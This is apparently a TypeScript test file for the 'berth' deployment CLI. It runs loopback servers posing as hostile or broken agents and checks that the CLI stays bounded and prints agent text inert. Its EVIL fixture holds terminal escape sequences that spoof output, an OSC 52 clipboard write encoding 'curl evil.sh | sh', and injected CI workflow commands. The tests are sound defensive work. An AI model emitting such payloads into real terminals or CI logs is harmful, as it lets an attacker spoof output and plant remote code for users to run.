// `berth fleet` and the client commands against broken and hostile agents (issue 23 D12, D13): real HTTP
// servers on loopback that send headers and no body, an endless answer, `{}`, a deployment that never ends,
// and text full of escape sequences and CI workflow commands. The CLI runs as a child process.

import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import path from 'node:path'
import { after, test } from 'node:test'
import { tempDir } from './helpers/daemon.js'
import { REPO } from './helpers/fixtures.js'

const V1 = '0.1.0-aaaaaaaaaaaa'
const V2 = '0.2.0-bbbbbbbbbbbb'
/** What a hostile agent writes into its text: erase line + cursor up, an OSC 52 clipboard write, CI commands. */
const EVIL = '\x1b[2K\x1b[1A\rall hosts succeeded\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\n::add-mask::x\n  ::error::pwned\n##vso[task.setvariable variable=x]1'

const work = tempDir('berth-fleet-hostile-')
const servers: http.Server[] = []
after(() => {
  for (const s of servers) {
    s.close()
    s.closeAllConnections()
  }
  fs.rmSync(work, { recursive: true, force: true })
})

type Handler = (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void

/** An agent on loopback: `routes` by "METHOD /path" (the app is hello); every request is recorded. */
async function agent(routes: Record<string, Handler>): Promise<{ url: string; seen: string[] }> {
  const seen: string[] = []
  const server = http.createServer((req, res) => {
    let body = ''
    req.on('data', (c) => (body += c))
    req.on('end', () => {
      const key = `${req.method} ${req.url!.replace(/^\/v1\/apps\/hello/, '').replace(/\?.*$/, '')}`
      seen.push(key)
      const h = routes[key]
      if (h) return h(req, res, body)
      res.writeHead(404, { 'content-type': 'application/problem+json' }).end(JSON.stringify({ code: 'ROUTE_NOT_FOUND', detail: `no ${key}` }))
    })
  })
  server.on('connection', (s: Socket) => s.on('error', () => {}))
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  servers.push(server)
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen }
}

const send = (res: http.ServerResponse, status: number, body: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
const deployment = (id: string, kind: string, release: string, previous: string | null, state: string, extra: Record<string, unknown> = {}) => ({ id, app: 'hello', kind, release, previous, state, reason: null, reasonCode: null, warnings: [], steps: [], actor: 'fleet', rollout: 'r-1', createdAt: new Date().toISOString(), finishedAt: state === 'running' ? null : new Date().toISOString(), ...extra })

/** A well-behaved agent: takes the upload, deploys and rolls back at once, and remembers what it runs. */
function goodRoutes(state: { current: string }): Record<string, Handler> {
  let seq = 0
  const deps = new Map<string, unknown>()
  const finish = (res: http.ServerResponse, kind: string, release: string) => {
    const d = deployment(`d${++seq}`, kind, release, state.current, 'succeeded')
    state.current = release
    deps.set(d.id, d)
    send(res, 201, d)
  }
  return {
    'POST /releases': (_q, res) => send(res, 201, { id: V2, version: '0.2.0' }),
    'GET ': (_q, res) => send(res, 200, { name: 'hello', current: state.current, node: { state: 'running', release: state.current }, lastDeployment: null }),
    'POST /deployments': (_q, res, body) => finish(res, 'deploy', JSON.parse(body).release),
    'POST /rollback': (_q, res, body) => finish(res, 'rollback', JSON.parse(body).to),
  }
}

function fleetFile(urls: string[], extra = ''): string {
  const f = path.join(work, `fleet-${Math.random().toString(36).slice(2)}.yml`)
  fs.writeFileSync(f, `app: hello\nhosts:\n${urls.map((u, i) => `  - { name: h${i + 1}, url: "${u}" }`).join('\n')}\ncanary: 1\nbatch: 1\n${extra}`)
  return f
}

/** Runs `berth ARGS`; killed after `limitMs` (then `killed` is true): an unbounded CLI fails the test, it does not hang it. */
function berth(args: string[], limitMs: number, env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string; killed: boolean; ms: number }> {
  const started = Date.now()
  const child = spawn(process.execPath, [path.join(REPO, 'bin', 'berth.js'), ...args], { env: { ...process.env, BERTH_URL: '', BERTH_TOKEN: 'tok', BERTH_FLEET_TIMEOUT_MS: '1500', ...env }, stdio: ['ignore', 'pipe', 'pipe'] })
  let stdout = ''
  let stderr = ''
  let killed = false
  child.stdout!.on('data', (c) => (stdout += c))
  child.stderr!.on('data', (c) => (stderr += c))
  const timer = setTimeout(() => {
    killed = true
    child.kill('SIGKILL')
  }, limitMs)
  return new Promise((resolve) =>
    child.on('close', (code) => {
      clearTimeout(timer)
      resolve({ code, stdout, stderr, killed, ms: Date.now() - started })
    }),
  )
}

/** Nothing a terminal or a CI runner would act on: no ESC, no C1/C0 controls but newline and tab, no workflow command. */
function assertInert(text: string): void {
  assert.ok(!/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(text), `control characters in ${JSON.stringify(text)}`)
  assert.ok(!/^\s*(::|##)/m.test(text), `a workflow command at a line's start in ${JSON.stringify(text)}`)
}

test('fleet status is bounded: headers without a body, an endless answer and `{}` each make a failed row, not a hang (D13)', async () => {
  let streamed = 0
  const silent = await agent({ 'GET ': (_q, res) => res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' }).flushHeaders() })
  const endless = await agent({
    'GET ': (_q, res) => {
      res.writeHead(200, { 'content-type': 'application/json' })
      const chunk = Buffer.alloc(64 * 1024, 0x20)
      const pump = () => {
        while (!res.destroyed && res.write(chunk)) streamed += chunk.length
        if (!res.destroyed) res.once('drain', pump)
      }
      res.write('{"current":')
      res.on('close', () => {})
      pump()
    },
  })
  const empty = await agent({ 'GET ': (_q, res) => send(res, 200, {}) })
  const evil = await agent({ 'GET ': (_q, res) => send(res, 200, { current: V1, node: { state: `running${EVIL}` }, lastDeployment: deployment('d1', 'deploy', V1, null, 'failed', { reason: EVIL }) }) })
  const r = await berth(['fleet', 'status', '--fleet', fleetFile([silent.url, empty.url, evil.url])], 30_000)
  assert.equal(r.killed, false, `fleet status never ended (${r.ms} ms): ${r.stdout}${r.stderr}`)
  assert.equal(r.code, 0, r.stderr)
  assert.match(r.stdout, /^ +h1 +no \(TIMEOUT\)/m)
  assert.match(r.stdout, /^ +h2 +refused: INVALID_RESPONSE/m)
  assertInert(r.stdout + r.stderr)
  // The endless answer on its own, with a timeout no loaded machine reaches: it is the size cap that must end
  // it (with 1.5 s, CI on two busy cores read less than 8 MiB in time and saw TIMEOUT instead).
  const big = await berth(['fleet', 'status', '--fleet', fleetFile([endless.url])], 60_000, { BERTH_FLEET_TIMEOUT_MS: '45000' })
  assert.equal(big.killed, false, `fleet status never ended (${big.ms} ms): ${big.stdout}${big.stderr}`)
  assert.match(big.stdout, /^ +h1 +refused: ANSWER_TOO_LARGE/m)
  assert.ok(streamed < 64 * 1024 * 1024, `the CLI read ${streamed} bytes of an endless answer`)
  const json = await berth(['fleet', 'status', '--fleet', fleetFile([evil.url]), '--json'], 30_000)
  assert.equal(json.code, 0, json.stderr)
  assertInert(json.stdout)
  assert.equal(JSON.parse(json.stdout).hosts[0].current, V1)
})

test('a `{}` answer to POST deployments fails the host: the rollout halts, puts the moved host back, and polls nothing (D13)', async () => {
  const good = { current: V1 }
  const h1 = await agent(goodRoutes(good))
  const h2 = await agent({ ...goodRoutes({ current: V1 }), 'POST /deployments': (_q, res) => send(res, 201, {}) })
  const tarball = path.join(work, 'hello.tar.gz')
  fs.writeFileSync(tarball, 'not really a tarball: the agents here do not look')
  const r = await berth(['fleet', 'deploy', tarball, '--fleet', fleetFile([h1.url, h2.url]), '--json'], 30_000)
  assert.equal(r.killed, false, `fleet deploy never ended: ${r.stderr}`)
  assert.equal(r.code, 1, r.stderr)
  const result = JSON.parse(r.stdout)
  assert.deepEqual(result.hosts.map((h: { outcome: string }) => h.outcome), ['put_back', 'failed'])
  assert.equal(result.halted.host, 'h2')
  assert.equal(result.halted.code, 'INVALID_RESPONSE')
  assert.equal(good.current, V1, 'h1 runs what it ran before')
  assert.ok(h1.seen.includes('POST /rollback'))
  assert.ok(!h2.seen.some((s) => s.includes('undefined')), `h2 was polled for undefined: ${h2.seen.join(', ')}`)
})

test('a deployment that never ends fails its host at the fleet deadline, and the rollout halts (D13)', async () => {
  const h1 = await agent({
    ...goodRoutes({ current: V1 }),
    'POST /deployments': (_q, res) => send(res, 201, deployment('d9', 'deploy', V2, V1, 'starting')),
    'GET /deployments/d9': (_q, res) => send(res, 200, deployment('d9', 'deploy', V2, V1, 'starting')),
  })
  const tarball = path.join(work, 'hello2.tar.gz')
  fs.writeFileSync(tarball, 'x')
  const r = await berth(['fleet', 'deploy', tarball, '--fleet', fleetFile([h1.url]), '--deadline', '2s', '--json'], 30_000)
  assert.equal(r.killed, false, `fleet deploy never ended: ${r.stderr}`)
  assert.equal(r.code, 1, r.stderr)
  const result = JSON.parse(r.stdout)
  assert.equal(result.hosts[0].outcome, 'failed')
  assert.equal(result.halted.code, 'DEPLOYMENT_DEADLINE')
  assert.ok(r.ms < 20_000, `${r.ms} ms`)
})

test("the client commands print an agent's escape sequences and workflow commands rendered inert (D12)", async () => {
  const step = { name: 'migrating', state: 'failed', startedAt: new Date().toISOString(), endedAt: new Date().toISOString(), output: `migration output\n${EVIL}` }
  const h = await agent({
    'GET /deployments/d1': (_q, res) => send(res, 200, deployment('d1', 'deploy', V1, null, 'failed', { reason: EVIL, steps: [step], warnings: [EVIL] })),
    'GET /events': (_q, res) => send(res, 200, { events: [{ seq: 1, app: 'hello', at: new Date().toISOString(), actor: EVIL, action: 'rpc', outcome: 'ok', detail: { expr: EVIL } }] }),
    'GET /logs': (_q, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end(`${EVIL}\n`),
    'POST /stop': (_q, res) => res.writeHead(409, { 'content-type': 'application/problem+json' }).end(JSON.stringify({ code: 'DEPLOYMENT_IN_PROGRESS', detail: EVIL })),
  })
  for (const args of [['deployments', 'hello', 'd1'], ['events', 'hello'], ['logs', 'hello'], ['stop', 'hello']]) {
    const r = await berth([...args, '--url', h.url], 20_000)
    assert.equal(r.killed, false)
    assert.ok(r.stdout.includes('all hosts succeeded') || r.stderr.includes('all hosts succeeded'), `${args.join(' ')}: the text stays readable: ${r.stdout}${r.stderr}`)
    assertInert(r.stdout + r.stderr)
  }
})
